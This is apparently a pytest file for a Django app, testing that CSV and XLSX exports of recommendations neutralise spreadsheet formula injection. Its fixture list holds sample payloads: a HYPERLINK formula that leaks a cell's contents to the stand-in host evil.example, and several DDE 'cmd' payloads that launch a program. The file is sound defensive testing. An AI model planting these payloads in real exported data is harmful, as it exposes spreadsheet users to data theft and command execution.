"""Spreadsheet formula injection: every tabular export goes through `uprhub.core.exports`.

One recommendation per dangerous start ("=HYPERLINK(…)", "+cmd", "@SUM", "-", a tab), exported
by `uprhub search --format csv`, the explorer's CSV and the explorer's XLSX.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from tests.factories import RecommendationFactory, ReviewFactory, SessionFactory, StateFactory
from uprhub.core import exports as tabular

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1dHYPERLINK(1)",  # full-width equals sign
]


@pytest.fixture
def formulas():
    usa = StateFactory(code="USA", short_name="United States")
    review = ReviewFactory(state=usa, session=SessionFactory(number=36, cycle__number=3))
    return [
        RecommendationFactory(review=review, text=text, paragraph=f"26.{i}")
        for i, text in enumerate(DANGEROUS, start=1)
    ]


def assert_neutralised(texts: list[str]) -> None:
    assert sorted(texts) == sorted("'" + t for t in DANGEROUS)


def test_cli_csv_neutralises_formulas(formulas):
    out = io.StringIO()
    call_command("search", "--state", "USA", "--limit", "50", "--format", "csv", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == len(DANGEROUS)
    assert_neutralised([row["text"] for row in rows])


def test_web_csv_neutralises_formulas(client, formulas):
    response = client.get(reverse("recommendations:export", kwargs={"fmt": "csv"}))
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))[1:]
    assert_neutralised([row[7] for row in rows])


def test_web_xlsx_stores_formulas_as_text(client, formulas):
    response = client.get(reverse("recommendations:export", kwargs={"fmt": "xlsx"}))
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [row[7] for row in sheet.iter_rows(min_row=2)]
    # The text is shown as written, stored as a string, and marked so that editing the cell in
    # Excel keeps it text.
    assert sorted(c.value for c in cells) == sorted(DANGEROUS)
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.quotePrefix
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)


def test_safe_cell():
    assert tabular.safe_cell("=1+1") == "'=1+1"
    assert tabular.safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert tabular.safe_cell("-2") == "'-2"
    assert tabular.safe_cell("\t=x") == "'\t=x"
    assert tabular.safe_cell("\r=x") == "'\r=x"
    assert tabular.safe_cell("Ratify") == "Ratify"
    assert tabular.safe_cell("a=b") == "a=b"
    assert tabular.safe_cell(-2) == -2  # numbers stay numbers
    assert tabular.safe_cell(None) == ""


def test_csv_writer_helper_writes_safe_rows():
    out = io.StringIO()
    writer = tabular.csv_writer(out)
    writer.writerow(["=1+1", 3, "plain"])
    assert out.getvalue() == "'=1+1,3,plain\r\n"
